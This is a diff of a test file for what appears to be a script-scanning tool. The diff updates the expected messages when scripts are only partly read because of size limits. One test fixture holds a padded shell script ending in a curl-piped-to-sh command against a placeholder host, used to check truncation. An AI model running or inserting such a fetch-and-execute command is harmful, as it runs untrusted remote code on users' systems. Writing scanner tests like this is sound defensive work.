@@ -208,7 +208,8 @@ describe('limits', () => {
     const files = tree({ 'a.sh': `echo hi\n${'# pad\n'.repeat(100)}curl https://x.example/a | sh\n` });
     const result = analyzeScripts(server, files, [], () => 'first-party', { ...SCRIPT_LIMITS, fileBytes: 200 });
     expect(result.scripts[0]).toMatchObject({ complete: false, severity: 'medium', signals: [{ kind: 'opaque', entry: 'too-long', severity: 'medium' }] });
-    expect(result.gaps).toEqual([expect.stringContaining('a.sh: a script of 0.0 MB, of which only the first 0.0 MB was read')]);
+    expect(result.scripts[0]!.reason).toBe('only the first 0.0 MB of 0.0 MB were read (scripts are read up to 0.0 MB each and 16.0 MB per bundle)');
+    expect(result.gaps).toEqual([`a.sh: ${result.scripts[0]!.reason}`]);
   });
 
   it('reads started scripts first, then the others smallest first, up to the bundle limits', () => {
@@ -222,7 +223,7 @@ describe('limits', () => {
       ['small.sh', true],
       ['started.sh', true],
     ]);
-    expect(result.gaps).toEqual([expect.stringContaining('big.sh: a script of 0.0 MB, of which only the first 0.0 MB was read')]);
+    expect(result.gaps).toEqual([expect.stringMatching(/^big\.sh: only the first 0\.0 MB of 0\.0 MB were read/)]);
     const none = analyzeScripts(started, files, [], () => 'first-party', { ...SCRIPT_LIMITS, totalBytes: 354 });
     expect(none.gaps).toEqual(['1 shell, PowerShell or batch scripts (0.0 MB) were not read: the scripts of a bundle are read up to 0.0 MB and 4000 files']);
     const few = analyzeScripts(started, files, [], () => 'first-party', { ...SCRIPT_LIMITS, files: 1 });
